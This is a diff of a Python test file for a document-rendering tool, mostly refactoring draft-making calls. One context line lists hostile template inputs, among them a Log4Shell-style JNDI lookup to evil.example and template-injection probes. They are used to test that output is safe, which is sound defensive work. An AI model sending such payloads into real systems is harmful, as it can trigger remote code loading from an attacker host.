@@ -21,14 +21,15 @@ import pytest
 from click.testing import Result
 
 import caprev
-from caprev import Assessor
+from caprev import Assessor, record
 from caprev.characters import shown
 from caprev.documents.content import blocks, docx
 from caprev.documents.content.worksheet import Worksheet
-from caprev.documents.drafts import make
+from caprev.documents.drafts.make import Draft
 from caprev.documents.reports import memorandum, memorandum_html, memorandum_markdown
 from caprev.drawing import maps
 from caprev.files import reading
+from caprev.reasoning.analysis import Assessment
 
 Run = Callable[..., Result]
 
@@ -46,6 +47,12 @@ FAMILIES = {
     "template": "{name} {0} {^statham} {@x} {{7*7}} ${jndi:ldap://evil.example} %s %(x)s $x @import",
 }
 HARMLESS = "harmless"
+
+
+def drafted(assessor: Assessor, assessment: Assessment, found: reading.Source, form: str, template: str) -> Draft:
+    """A draft as the command makes it."""
+    law = record.Law(assessor, caprev.home("rules"), caprev.home("cases"))
+    return record.drafted(law, found, record.requested(assessment, "draft", form, template=template), assessment)
 
 
 def hostile(payload: str) -> reading.Source:
@@ -75,17 +82,16 @@ def made(assessor: Assessor, payload: str) -> dict[str, str]:
     """Everything that is made of a matter, by the kind of document, as text; a Word file by its parts."""
     found = hostile(payload)
     assessment = assessor.assess(assessor.matter(found))
-    reasons = caprev.arguments(assessor, assessment)
+    reasons = caprev.arguments(assessment)
     outputs = {
         "text": memorandum.render(assessment, reasons),
         "detail text": memorandum.render(assessment, reasons, detail=True),
         "reasons html": memorandum_html.render(assessment, reasons),
         "reasons md": memorandum_markdown.render(assessment, reasons),
     }
-    outputs |= {f"{kind} svg": maps.picture(kind, reasons[0]) for kind in maps.KINDS}
-    rules = caprev.home("rules")
+    outputs |= {f"{kind} svg": maps.picture(kind, assessment.analyses[0]) for kind in maps.KINDS}
     for template, form in (("ruling", "md"), ("advice", "html"), ("debate", "docx")):
-        content = make.make(assessor, assessment, found, rules, form, template, False, ()).content
+        content = drafted(assessor, assessment, found, form, template).content
         outputs |= parts(content) if form == "docx" else {f"{template} {form}": content.decode()}
     return outputs
 
@@ -177,7 +183,7 @@ def test_no_paragraph_of_a_person_is_a_list_or_a_heading(assessor: Assessor) -> 
     starts += ("---", "===", "    code", "```", "| a")
     found = reading.parse(json.dumps({"matter": {"notes": "\n\n".join(starts)}}), "notes.json")
     assessment = assessor.assess(assessor.matter(found))
-    text = make.make(assessor, assessment, found, caprev.home("rules"), "md", "ruling", False, ()).content.decode()
+    text = drafted(assessor, assessment, found, "md", "ruling").content.decode()
     shown_lines = [line for line in text.splitlines() if re.sub(r"\\", "", line).strip() in map(str.strip, starts)]
     assert len(shown_lines) == len(starts)
     assert not [line for line in shown_lines if re.match(r"[-+*#>=`|]|\d+[.)]|    ", line)]
@@ -190,7 +196,7 @@ def test_a_pdf_holds_no_link_action_or_file(family: str, assessor: Assessor) -> 
     pypdf = pytest.importorskip("pypdf")
     found = hostile(FAMILIES[family])
     assessment = assessor.assess(assessor.matter(found))
-    content = make.make(assessor, assessment, found, caprev.home("rules"), "pdf", "ruling", False, ()).content
+    content = drafted(assessor, assessment, found, "pdf", "ruling").content
     reader = pypdf.PdfReader(io.BytesIO(content))
     text = " ".join(text.extract_text() for text in reader.pages)
     assert "root:" not in text
@@ -251,11 +257,11 @@ def test_every_kind_of_character_is_shown_in_every_format(assessor: Assessor) ->
     found = reading.parse(json.dumps(data), "odd.json")
     assessment = assessor.assess(assessor.matter(found))
     for form in ("pdf", "docx"):
-        content = make.make(assessor, assessment, found, caprev.home("rules"), form, "debate", False, ()).content
+        content = drafted(assessor, assessment, found, form, "debate").content
         assert content.startswith(b"%PDF" if form == "pdf" else b"PK")
         for part in parts(content).values() if form == "docx" else ():
             ElementTree.fromstring(part)
-    assert ElementTree.fromstring(maps.picture("balance", caprev.arguments(assessor, assessment)[0])) is not None
+    assert ElementTree.fromstring(maps.picture("balance", assessment.analyses[0])) is not None
 
 
 def test_a_mark_that_no_font_sets_on_its_letter_is_written_as_its_code(assessor: Assessor) -> None:
@@ -264,7 +270,7 @@ def test_a_mark_that_no_font_sets_on_its_letter_is_written_as_its_code(assessor:
     pypdf = pytest.importorskip("pypdf")
     found = reading.parse(json.dumps({"matter": {"title": "Farm z\u20dd sold\ufeff"}}), "odd.json")
     assessment = assessor.assess(assessor.matter(found))
-    content = make.make(assessor, assessment, found, caprev.home("rules"), "pdf", "ruling", False, ()).content
+    content = drafted(assessor, assessment, found, "pdf", "ruling").content
     text = " ".join(sheet.extract_text() for sheet in pypdf.PdfReader(io.BytesIO(content)).pages)
     assert "Farm z[U+20DD] sold\\ufeff" in "".join(text.split("\u200b"))
 
@@ -275,7 +281,7 @@ def test_a_paragraph_longer_than_typst_sets_in_one_go_is_set(assessor: Assessor)
     fact = {"value": "individual", "source": ". " * 40_000, "standing": "disputed"}
     found = reading.parse(json.dumps({"taxpayer": {"kind": fact}}), "long.json")
     assessment = assessor.assess(assessor.matter(found))
-    made = make.make(assessor, assessment, found, caprev.home("rules"), "pdf", "debate", False, ())
+    made = drafted(assessor, assessment, found, "pdf", "debate")
     assert made.content.startswith(b"%PDF")
 
 
